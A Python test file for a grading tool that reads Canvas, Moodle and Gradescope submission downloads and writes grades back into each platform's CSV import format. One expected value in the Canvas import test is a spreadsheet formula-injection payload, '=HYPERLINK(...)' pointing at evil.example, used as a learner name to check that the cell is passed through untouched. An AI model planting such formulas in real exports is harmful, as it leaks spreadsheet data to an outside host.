"""LMS downloads graded end to end: Canvas, Moodle and Gradescope, with files shaped as each platform writes them.

The exports (tests/data/lms/) are written by hand from each platform's
documented format; the downloads are built here, with each platform's
file naming, from golden histories recorded from real runs.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from events import own_timings
from grader.classroom.lms import CANVAS, FOLDERS, GRADESCOPE, MOODLE, detect_layout, read_download
from grader.classroom.roster import read_roster
from grader.cli import cli

DATA = Path(__file__).parent / "data" / "lms"
GOLDENS = Path(__file__).parent / "goldens"
CANVAS_EXPORT = DATA / "canvas-gradebook-export.csv"
MOODLE_WORKSHEET = DATA / "moodle-grading-worksheet.csv"


def _golden(name: str) -> bytes:
    return (GOLDENS / f"{name}.json").read_bytes()


def _own(name: str) -> bytes:
    """A golden as another learner's own run of the scenario (see :func:`events.own_timings`)."""
    return json.dumps(own_timings(json.loads((GOLDENS / f"{name}.json").read_text()), 1)).encode()


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def canvas_download(path: Path) -> Path:
    """Canvas's Download Submissions zip: flat files <name>[_LATE]_<user id>_<submission id>_<file>."""
    path.write_bytes(_zip({
        "lovelaceada_1001_50001_crash.json": _golden("sigkill-during-deposit"),
        "lovelaceada_1001_50002_live-fix.json": _golden("live-fix"),
        "lovelaceada_1001_50003_refund.json": _golden("retries-exhausted-refund"),
        "lovelaceada_1001_50003_notes.txt": b"what I did",
        "babbagebob_LATE_1002_50011_histories.zip": _zip({
            "histories/refund.json": _golden("non-retryable-refund"),
            "histories/crash.json": _golden("sigint-during-deposit"),
            "__MACOSX/histories/._crash.json": b"\x00\x05junk",
        }),
        # A zip of a zip: the message about the broken file names the inner zip.
        "hoppercarol_1003_50041_all.zip": _zip({"runs.zip": _zip({
            "live-fix.json": _own("live-fix"), "broken.json": b'{"events": ['})}),
        "mullerzoe_1004_50021_crash.json": _golden("sigkill-during-withdraw"),
        "mullerzoe_1004_50022_crash-1.json": b'{"events": [',  # a second upload Canvas renamed; cut short
        "nobody_1099_50031_run.json": _golden("no-failure"),  # a user the export does not list
    }))
    return path


def moodle_download(path: Path) -> Path:
    """Moodle's Download all submissions: a folder per participant, <Full name>_<id>_assignsubmission_file_."""
    path.write_bytes(_zip({
        "Ada Lovelace_204811_assignsubmission_file_/crash.json": _golden("sigkill-during-deposit"),
        "Ada Lovelace_204811_assignsubmission_file_/live-fix.json": _golden("live-fix"),
        "Ada Lovelace_204811_assignsubmission_file_/refund.json": _golden("retries-exhausted-refund"),
        "Ada Lovelace_204811_assignsubmission_onlinetext_/onlinetext.html": b"<p>done</p>",
        "Bob Babbage_204812_assignsubmission_file_/histories.zip": _zip({
            "refund.json": _golden("non-retryable-refund")}),
        "Zoë Müller_204814_assignsubmission_file_/crash.json": _golden("sigkill-during-withdraw"),
        "Dan Dropped_204899_assignsubmission_file_/run.json": _golden("no-failure"),
    }))
    return path


def gradescope_export(path: Path) -> Path:
    """Gradescope's Export Submissions: assignment_<id>_export/ with the metadata and submission_<id>/ folders."""
    root = "assignment_4711_export/"
    path.write_bytes(_zip({
        root + "submission_metadata.yml": (DATA / "gradescope-submission_metadata.yml").read_bytes(),
        root + "submission_900001/crash.json": _golden("sigkill-during-deposit"),
        root + "submission_900001/live-fix.json": _golden("live-fix"),
        root + "submission_900002/refund.json": _golden("non-retryable-refund"),
        root + "submission_900004/run.json": _golden("no-failure"),
        root + "submission_900003/run.json": _golden("no-failure"),  # not in the metadata
    }))
    return path


def _batch(tmp_path: Path, *args: str) -> tuple[object, dict[str, dict[str, str]], dict]:
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["batch", *args, "--out", str(out), "--no-replay", "--format", "json"])
    assert result.exit_code == 0, result.output
    with (out / "gradebook.csv").open(newline="", encoding="utf-8-sig") as f:
        rows = {row["learner"]: row for row in csv.DictReader(f)}
    return result, rows, json.loads(result.stdout)


def test_canvas_download_zip_with_the_canvas_export_as_roster(tmp_path: Path):
    download = canvas_download(tmp_path / "submissions.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
                              "--lms-column", "4711")
    assert list(rows) == ["ada", "bob", "carol", "zoe", "eve"]
    assert {k: r["status"] for k, r in rows.items()} == {
        "ada": "graded", "bob": "graded", "carol": "unreadable-files", "zoe": "unreadable-files", "eve": "missing"}
    assert rows["ada"]["score"] == "30" and rows["bob"]["compensation"] == "pass"
    assert rows["carol"]["live-fix"] == "pass"
    assert rows["zoe"]["Student"] == "Müller, Zoë" and rows["zoe"]["crash-recovery"] == "pass"
    assert summary["unmatched"] == [
        "nobody_1099_50031_run.json: Canvas user id 1099 is not in the roster's ID column"]
    assert "canvas download" in summary["source"]
    learners = {e["learner"]: e for e in json.loads((tmp_path / "out" / "gradebook.json").read_text())["learners"]}
    assert learners["bob"]["report"]["sources"] == [
        "babbagebob_LATE_1002_50011_histories.zip:histories/crash.json",
        "babbagebob_LATE_1002_50011_histories.zip:histories/refund.json"]
    assert learners["zoe"]["problems"][0].startswith("mullerzoe_1004_50022_crash-1.json: ")
    assert learners["carol"]["problems"][0].startswith("hoppercarol_1003_50041_all.zip:runs.zip:broken.json: ")


def test_canvas_download_without_an_export_names_learners_as_canvas_does(tmp_path: Path):
    download = canvas_download(tmp_path / "submissions.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download))
    assert sorted(rows) == ["babbagebob", "hoppercarol", "lovelaceada", "mullerzoe", "nobody"]
    assert summary["unmatched"] == []


def test_moodle_download_with_the_worksheet_as_roster(tmp_path: Path):
    download = moodle_download(tmp_path / "moodle.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(MOODLE_WORKSHEET))
    assert {k: r["status"] for k, r in rows.items()} == {
        "ada": "graded", "bob": "graded", "carol": "missing", "zoe": "graded"}
    assert rows["ada"]["score"] == "30" and rows["ada"]["Full name"] == "Ada Lovelace"
    assert rows["bob"]["compensation"] == "pass"
    assert summary["unmatched"] == [
        "Ada Lovelace_204811_assignsubmission_onlinetext_: Moodle's onlinetext submission, not files: "
        "histories are handed in as files",
        "Dan Dropped_204899_assignsubmission_file_: participant 204899 is not in the roster's Identifier column"]


def test_gradescope_export_with_a_canvas_roster(tmp_path: Path):
    download = gradescope_export(tmp_path / "gradescope.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT))
    assert {k: r["status"] for k, r in rows.items()} == {
        "ada": "graded", "bob": "graded", "carol": "missing", "zoe": "graded", "eve": "missing"}
    assert rows["ada"]["live-fix"] == "pass"
    # A group submission is graded for each submitter.
    assert rows["bob"]["compensation"] == rows["zoe"]["compensation"] == "pass"
    assert summary["unmatched"] == [
        "submission_900004 (Dan Dropped): submitter Dan Dropped (email dan@uni.example, SID 1099) is not on "
        "the roster: their email's local part or SID must be a roster learner id",
        "submission_900003: not listed in submission_metadata.yml"]


def test_layouts_are_recognised_by_their_names(tmp_path: Path):
    for name, build, layout in [("c", canvas_download, CANVAS), ("m", moodle_download, MOODLE),
                                ("g", gradescope_export, GRADESCOPE)]:
        folder = tmp_path / name
        with zipfile.ZipFile(build(tmp_path / f"{name}.zip")) as archive:
            archive.extractall(folder)
        assert read_download(folder, None).layout == layout
    (tmp_path / "plain" / "ada").mkdir(parents=True)
    assert detect_layout(tmp_path / "plain") == FOLDERS


def test_a_browser_copy_belongs_to_the_same_learner(tmp_path: Path):
    root = tmp_path / "download"
    (root / "ada").mkdir(parents=True)
    shutil.copy(GOLDENS / "sigkill-during-deposit.json", root / "ada" / "crash.json")
    (root / "ada (1).zip").write_bytes(_zip({"live-fix.json": _golden("live-fix")}))
    found = read_download(root, None)
    assert list(found.submissions) == ["ada"] and found.submissions["ada"].names == ["ada", "ada (1).zip"]
    _, rows, _ = _batch(tmp_path, "--submissions", str(root))
    assert list(rows) == ["ada"] and rows["ada"]["live-fix"] == "pass"


def test_a_moodle_download_unzipped_by_hand_is_read_the_same(tmp_path: Path):
    with zipfile.ZipFile(moodle_download(tmp_path / "moodle.zip")) as archive:
        archive.extractall(tmp_path / "unzipped")
    roster = read_roster(MOODLE_WORKSHEET, validate=lambda v, w: v)
    found = read_download(tmp_path / "unzipped", roster)
    assert sorted(found.submissions) == ["ada", "bob", "zoe"]


def test_a_damaged_download_zip_is_one_line_and_exit_2(tmp_path: Path):
    bad = tmp_path / "submissions.zip"
    bad.write_bytes(b"PK\x03\x04 not a zip")
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(bad), "--out", str(tmp_path / "out")])
    assert result.exit_code == 2 and "not a readable zip file" in result.stderr
    assert result.stderr.count("\n") == 1


# --- grades back into the LMS, and late work ------------------------------------------------


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f))


def test_canvas_import_is_the_export_with_the_assignment_filled(tmp_path: Path):
    download = canvas_download(tmp_path / "submissions.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
                              "--lms-column", "failure lab")  # the start of one title is enough
    written = tmp_path / "out" / "canvas-import.csv"
    assert str(written) in summary["files"]
    raw, exported = written.read_bytes(), CANVAS_EXPORT.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # as Canvas wrote its export
    before, after = _cells(CANVAS_EXPORT), _cells(written)
    column = before[0].index("Failure Lab: break it on purpose (4711)")
    assert after[0] == before[0] and after[1] == before[1]  # the header and Points Possible row, untouched
    filled = {r[0]: r[column] for r in after[2:]}
    assert filled == {"Lovelace, Ada": "30", "Babbage, Bob": rows["bob"]["score"],
                      "Hopper, Carol": rows["carol"]["score"], "Müller, Zoë": rows["zoe"]["score"],
                      # nothing handed in, and Canvas's test student: left as exported
                      '=HYPERLINK("http://evil.example/?x="&A1,"Eve")': "", "Student, Test": ""}
    for old, new in zip(before, after):  # every other cell as exported
        assert old[:column] + old[column + 1:] == new[:column] + new[column + 1:]
    assert summary["warnings"] == [
        f"{CANVAS_EXPORT} line 8: 'Student, Test' has no 'SIS Login ID': skipped (Canvas's test student has "
        "none; --id-column picks another column)"]
    # Late: Canvas's _LATE marker on bob's file; nothing handed in tells nothing.
    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "yes", "carol": "no", "zoe": "no",
                                                         "eve": ""}


def test_canvas_import_warns_when_the_points_differ(tmp_path: Path):
    download = canvas_download(tmp_path / "submissions.zip")
    _, _, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
                           "--lms-column", "quiz 1")
    assert any("'Quiz 1 (4700)' is out of 10 in the LMS but the rubric's maximum is 30" in w
               for w in summary["warnings"])


def test_canvas_export_with_several_assignments_and_no_choice_still_grades(tmp_path: Path):
    download = canvas_download(tmp_path / "submissions.zip")
    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT))
    assert rows["ada"]["score"] == "30" and not (tmp_path / "out" / "canvas-import.csv").exists()
    assert any(w.startswith("canvas-import.csv was not written: the Canvas export has 2 assignment columns")
               for w in summary["warnings"])


def test_semicolon_canvas_export_keeps_its_delimiter_and_decimal_comma(tmp_path: Path):
    export = tmp_path / "export.csv"
    export.write_text("Student;ID;SIS User ID;SIS Login ID;Section;Lab (12)\n    Points Possible;;;;;30,00\n"
                      "Lovelace, Ada;1001;S1;ada;A;\n", encoding="utf-8")
    root = tmp_path / "download"
    root.mkdir()
    (root / "lovelaceada_1001_7_crash.json").write_bytes(_golden("sigkill-during-deposit"))
    _, rows, _ = _batch(tmp_path, "--submissions", str(root), "--roster", str(export))
    text = (tmp_path / "out" / "canvas-import.csv").read_text(encoding="utf-8")
    assert text == ("Student;ID;SIS User ID;SIS Login ID;Section;Lab (12)\n    Points Possible;;;;;30,00\n"
                    f"Lovelace, Ada;1001;S1;ada;A;{rows['ada']['score']}\n")


def test_moodle_import_fills_grade(tmp_path: Path):
    download = moodle_download(tmp_path / "moodle.zip")
    _, rows, _ = _batch(tmp_path, "--submissions", str(download), "--roster", str(MOODLE_WORKSHEET))
    before, after = _cells(MOODLE_WORKSHEET), _cells(tmp_path / "out" / "moodle-import.csv")
    grade = before[0].index("Grade")
    assert after[0] == before[0]
    assert {r[1]: r[grade] for r in after[1:]} == {"Ada Lovelace": "30", "Bob Babbage": rows["bob"]["score"],
                                                  "Carol Hopper": "", "Zoë Müller": rows["zoe"]["score"]}
    for old, new in zip(before, after):
        assert old[:grade] + old[grade + 1:] == new[:grade] + new[grade + 1:]
    assert not (tmp_path / "out" / "moodle-import.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    # Moodle's Status says "... late" for zoe.
    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "no", "carol": "", "zoe": "yes"}


def test_due_against_gradescope_times_and_run_close_times(tmp_path: Path):
    download = gradescope_export(tmp_path / "gradescope.zip")
    # Between ada's submission (3 December) and bob and zoe's (5 December); the goldens closed long before.
    _, rows, _ = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
                        "--lms-column", "4711", "--due", "2026-12-04T12:00:00-08:00")
    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "yes", "carol": "", "zoe": "yes",
                                                         "eve": ""}  # nothing handed in: nothing to be late
    root = tmp_path / "plain"
    (root / "ada").mkdir(parents=True)
    shutil.copy(GOLDENS / "live-fix.json", root / "ada" / "fix.json")
    (root / "bob").mkdir()
    shutil.copy(GOLDENS / "insufficient-funds.json", root / "bob" / "broke.json")  # earns nothing
    out = tmp_path / "early"
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(root), "--out", str(out), "-q", "--no-replay",
                                      "--due", "2000-01-01T00:00"])
    assert result.exit_code == 0, result.output
    with (out / "gradebook.csv").open(newline="", encoding="utf-8-sig") as f:
        late = {row["learner"]: row["late"] for row in csv.DictReader(f)}
    # ada's points came from a run that closed after the due time; bob's run earned nothing.
    assert late == {"ada": "yes", "bob": "no"}
    gradebook = json.loads((out / "gradebook.json").read_text())
    assert {e["learner"]: e["late"] for e in gradebook["learners"]} == {"ada": True, "bob": False}


def test_late_shows_in_the_class_formats_and_the_learners_feedback(tmp_path: Path):
    import xml.etree.ElementTree as ET

    root = tmp_path / "plain"
    (root / "ada").mkdir(parents=True)
    shutil.copy(GOLDENS / "live-fix.json", root / "ada" / "fix.json")
    (root / "bob").mkdir()
    shutil.copy(GOLDENS / "insufficient-funds.json", root / "bob" / "broke.json")
    shown = {}
    for output_format in ("markdown", "html", "junit"):
        out = tmp_path / output_format
        result = CliRunner().invoke(cli, ["batch", "--submissions", str(root), "--out", str(out), "-q",
                                          "--no-replay", "--due", "2000-01-01T00:00", "--format", output_format])
        assert result.exit_code == 0, result.output
        shown[output_format] = result.output
    # Markdown and HTML: a "late" column beside the score, worded as gradebook.csv words it.
    lines = shown["markdown"].splitlines()
    header = next(line for line in lines if line.startswith("| learner |"))
    assert header.startswith("| learner | status | flags | score | late | ")
    ada = next(line for line in lines if line.startswith("| `ada` |"))
    bob = next(line for line in lines if line.startswith("| `bob` |"))
    assert ada.split(" | ")[4] == "yes" and bob.split(" | ")[4] == "no"
    assert '<th scope="col">Late</th>' in shown["html"]
    assert "<td>yes</td>" in shown["html"].split('data-learner="ada"')[1].split("</tr>")[0]
    # JUnit: a property of each learner's suite.
    suites = {s.get("name"): s for s in ET.fromstring(shown["junit"]).iter("testsuite")}
    late = {name: {p.get("name"): p.get("value") for p in suite.iter("property")}.get("late")
            for name, suite in suites.items()}
    assert late == {"ada": "yes", "bob": "no"}
    # The learner reads it in their feedback; an on-time learner's feedback does not mention it.
    feedback = tmp_path / "markdown" / "feedback"
    assert "handed in **late**" in (feedback / "ada.md").read_text()
    assert "late" not in (feedback / "bob.md").read_text().split("\n")[2]


def test_no_late_column_when_nothing_tells_who_was_late(tmp_path: Path):
    root = tmp_path / "plain"
    (root / "ada").mkdir(parents=True)
    shutil.copy(GOLDENS / "live-fix.json", root / "ada" / "fix.json")
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(root), "--out", str(tmp_path / "out"), "-q",
                                      "--no-replay", "--format", "markdown"])
    assert result.exit_code == 0, result.output
    assert "| learner | status | flags | score | " in result.output and "| late |" not in result.output


@pytest.mark.parametrize("args, says", [
    (["--lms-column", "Final Exam"], "--lms-column 'Final Exam' is not an assignment of the Canvas export"),
    (["--lms-column", ""], "--lms-column '' starts 2 assignment titles of the Canvas export"),
    (["--due", "next friday"], "--due 'next friday' is not a date and time"),
])
def test_bad_lms_options_are_exit_2_before_grading(tmp_path: Path, args: list[str], says: str):
    download = canvas_download(tmp_path / "submissions.zip")
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
                                      "--out", str(tmp_path / "out"), *args])
    assert result.exit_code == 2 and says in result.stderr and result.stderr.count("\n") == 1
    assert not (tmp_path / "out" / "gradebook.csv").exists()


def test_lms_column_needs_an_lms_export(tmp_path: Path):
    (tmp_path / "download" / "ada").mkdir(parents=True)
    roster = tmp_path / "roster.csv"
    roster.write_text("learner\nada\n")
    result = CliRunner().invoke(cli, ["batch", "--submissions", str(tmp_path / "download"), "--roster",
                                      str(roster), "--lms-column", "Lab", "--out", str(tmp_path / "out")])
    assert result.exit_code == 2 and "--lms-column names a column of a Canvas gradebook export" in result.stderr
